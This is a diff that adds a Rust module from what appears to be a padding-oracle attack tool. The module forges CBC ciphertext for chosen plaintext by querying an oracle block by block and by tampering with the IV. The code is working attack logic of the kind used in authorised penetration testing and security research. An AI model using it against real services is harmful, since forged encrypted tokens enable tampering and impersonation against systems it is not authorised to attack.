@@ -0,0 +1,254 @@
+use std::{
+    sync::{Arc, Mutex},
+    time::Duration,
+};
+
+use anyhow::Result;
+use log::{debug, info};
+
+use crate::{
+    block::{block_size::BlockSizeTrait, Block},
+    cache::Cache,
+    cypher_text::{
+        encode::{AmountBlocksTrait, Encode},
+        forged_cypher_text::{solved::SolvedForgedCypherText, ForgedCypherText},
+        CypherText,
+    },
+    divination::{progress_observer::ProgressObserver, solve_block},
+    logging::LOG_TARGET,
+    oracle::Oracle,
+    plain_text::PlainText,
+    session::Session,
+};
+
+/// Manages the oracle attack (encryption) on a high level.
+pub struct Encryptor<'a, O>
+where
+    O: ProgressObserver,
+{
+    // intermediate of last block of the user provided cypher text
+    initial_block_solution: SolvedForgedCypherText<'a>,
+    observer: O,
+}
+
+/// Blocks are solved as a (dummy block, cypher text block)-pair, so `solve_block` always reports block 1. This reports the block of the cypher text being forged instead.
+struct PairObserver<'o, O> {
+    observer: &'o O,
+    block_idx: usize,
+}
+
+impl<'a, O> Encryptor<'a, O>
+where
+    O: ProgressObserver,
+{
+    pub fn new(observer: O, initial_block_solution: SolvedForgedCypherText<'a>) -> Self {
+        debug!(target: LOG_TARGET, "Preparing to encrypt plain text");
+
+        Self {
+            initial_block_solution,
+            observer,
+        }
+    }
+
+    // encryption looks for the intermediate of the cypher text block, which is then xor-ed with the plain text block to create the cypher text block to be prepended.
+    // with `strict`, encryption fails if the value of any byte can't be verified
+    pub fn encrypt_plain_text(
+        &self,
+        plain_text: &PlainText,
+        oracle: &impl Oracle,
+        cache: Arc<Mutex<Option<Cache>>>,
+        session: Arc<Mutex<Option<Session>>>,
+        strict: bool,
+    ) -> Result<CypherText> {
+        let mut encrypted_blocks_backwards =
+            vec![self.initial_block_solution.block_to_decrypt().clone()];
+
+        // encrypting requires iteratively, backwards, building up the cypher text. Unlike with decrypting, we don't know each block beforehand. So obviously this can't be done in parallel
+        // Neither can the next block be solved speculatively. Its cypher text block is derived from the whole intermediate of the current block, so each candidate value of the current block's last byte would produce an entirely different block to solve. Valid padding for a block's last byte is confirmed with a follow-up question, but that can't be overlapped with solving the next block either, as the next block depends on the confirmed value
+        for (i, plain_text_block) in plain_text.blocks().iter().rev().enumerate() {
+            if i == 0 {
+                // decryption of this block is already finished as it's simply the initial block (the last block of the cypher text)
+                let block_solution = self.initial_block_solution.forged_block_solution();
+
+                let block_idx = plain_text.amount_blocks() - i;
+                self.observer.block_started(block_idx);
+                self.observer
+                    .bytes_solved(block_idx, *plain_text_block.block_size() as usize);
+                self.observer.block_finished(block_idx, block_solution);
+
+                let prepend_cypher_text_block =
+                    &block_solution.to_intermediate() ^ plain_text_block;
+                encrypted_blocks_backwards.push(prepend_cypher_text_block.clone());
+
+                cache_decryption_equivalent(
+                    cache.clone(),
+                    prepend_cypher_text_block,
+                    self.initial_block_solution.block_to_decrypt().clone(),
+                    block_solution.clone(),
+                )?;
+            } else {
+                // Use only the last block, as forging a block is only dependant on its "pair". Not having to send all blocks saves bandwidth and processing time, for us and the oracle
+                let cypher_text_block = encrypted_blocks_backwards
+                    .last()
+                    .expect("Encryption starts with 1 block, yet no block was found in the list")
+                    .clone();
+
+                // prepend an empty block which is to serve as the forgeable block
+                let blocks_to_solve = [
+                    Block::new(&plain_text_block.block_size()),
+                    cypher_text_block.clone(),
+                ];
+
+                let forged_cypher_text = ForgedCypherText::from_slice(
+                    &blocks_to_solve[..],
+                    plain_text_block.block_size(),
+                    *self.initial_block_solution.url_encoded(),
+                    *self.initial_block_solution.used_encoding(),
+                    *self.initial_block_solution.padding_scheme(),
+                );
+                let observer = PairObserver {
+                    observer: &self.observer,
+                    block_idx: plain_text.amount_blocks() - i,
+                };
+                // its bytes are solved in turn, as the padding for a byte is made from the bytes after it. Just the candidates of a byte are questioned at once, over the thread pool, or over the web oracle's pooled connections
+                let block_solution = solve_block(
+                    oracle,
+                    cache.clone(),
+                    session.clone(),
+                    // hints are about the original plain text, which isn't what's being encrypted
+                    None,
+                    strict,
+                    &forged_cypher_text,
+                    &observer,
+                )
+                .inspect_err(|e| observer.block_failed(observer.block_idx, e))?;
+                let block_solution = block_solution.forged_block_solution();
+
+                // if this is the last block, it's the IV
+                let prepend_cypher_text_block =
+                    &block_solution.to_intermediate() ^ plain_text_block;
+                encrypted_blocks_backwards.push(prepend_cypher_text_block.clone());
+
+                cache_decryption_equivalent(
+                    cache.clone(),
+                    prepend_cypher_text_block,
+                    cypher_text_block,
+                    block_solution.clone(),
+                )?;
+            };
+
+            info!(
+                target: LOG_TARGET,
+                "Block {}/{}: encrypted!",
+                i + 1,
+                plain_text.amount_blocks()
+            );
+        }
+
+        Ok(CypherText::from_iter(
+            encrypted_blocks_backwards.iter().rev(),
+            *self.initial_block_solution.url_encoded(),
+            *self.initial_block_solution.used_encoding(),
+        ))
+    }
+}
+
+impl<'o, O> ProgressObserver for PairObserver<'o, O>
+where
+    O: ProgressObserver,
+{
+    fn block_started(&self, _block_idx: usize) {
+        self.observer.block_started(self.block_idx)
+    }
+
+    fn request_issued(
+        &self,
+        _block_idx: usize,
+        forged_cypher_text: &ForgedCypherText,
+        latency: Duration,
+    ) {
+        self.observer
+            .request_issued(self.block_idx, forged_cypher_text, latency)
+    }
+
+    fn retry(&self, _block_idx: usize, byte_idx: u8, attempt: u64) {
+        self.observer.retry(self.block_idx, byte_idx, attempt)
+    }
+
+    fn bytes_solved(&self, _block_idx: usize, amount: usize) {
+        self.observer.bytes_solved(self.block_idx, amount)
+    }
+
+    fn block_finished(&self, _block_idx: usize, forged_block_solution: &Block) {
+        self.observer
+            .block_finished(self.block_idx, forged_block_solution)
+    }
+
+    fn block_failed(&self, _block_idx: usize, error: &anyhow::Error) {
+        self.observer.block_failed(self.block_idx, error)
+    }
+}
+
+/// The IV is only xor-ed into the intermediate of the 1st block. So if the oracle accepts an attacker-supplied IV, and the plain text to encrypt has as many blocks as the original message, the 1st block might be tamperable without questioning the oracle.
+pub fn iv_tampering_possible(
+    cypher_text: &CypherText,
+    plain_text: &PlainText,
+    no_iv: bool,
+) -> bool {
+    // -1 as the IV doesn't hold any plain text
+    !no_iv && plain_text.amount_blocks() == cypher_text.amount_blocks() - 1
+}
+
+/// Forge the cypher text purely by adjusting the IV. This only works if the plain text to encrypt is equal to the decrypted original, except for the 1st block.
+/// `decryption_results` must contain the solutions of all blocks of the original cypher text, in order.
+pub fn forge_by_iv_tampering(
+    cypher_text: &CypherText,
+    decryption_results: &[SolvedForgedCypherText],
+    plain_text: &PlainText,
+) -> Option<CypherText> {
+    if decryption_results.len() != plain_text.amount_blocks() {
+        return None;
+    }
+
+    let original_plain_text_blocks: Vec<Block> = decryption_results
+        .iter()
+        .map(|solution| solution.plain_text_block())
+        .collect();
+    if original_plain_text_blocks[1..] != plain_text.blocks()[1..] {
+        return None;
+    }
+
+    // IV ^ intermediate = original plain text. So (IV ^ original ^ desired) ^ intermediate = desired plain text
+    let original_iv = &cypher_text.blocks()[0];
+    let forged_iv = &(original_iv ^ &original_plain_text_blocks[0]) ^ &plain_text.blocks()[0];
+
+    Some(CypherText::from_iter(
+        [&forged_iv]
+            .into_iter()
+            .chain(cypher_text.blocks()[1..].iter()),
+        *cypher_text.url_encoded(),
+        *cypher_text.used_encoding(),
+    ))
+}
+
+// encryption uses a (dummy block, cypher block)-pair to build the actual cypher text block to prepend. `solve_block` will cache this pair, instead of the eventual (cypher block - 1, cypher block)-pair. We store this 2nd type of pair here.
+fn cache_decryption_equivalent(
+    cache: Arc<Mutex<Option<Cache>>>,
+    prepend_cypher_text_block: Block,
+    cypher_text_block: Block,
+    block_solution: Block,
+) -> Result<()> {
+    cache
+        .lock()
+        .unwrap()
+        .as_mut()
+        .map(|cache| {
+            cache.insert(
+                (prepend_cypher_text_block, cypher_text_block),
+                block_solution,
+                None,
+            )
+        })
+        .transpose()
+        .map(|_| ())
+}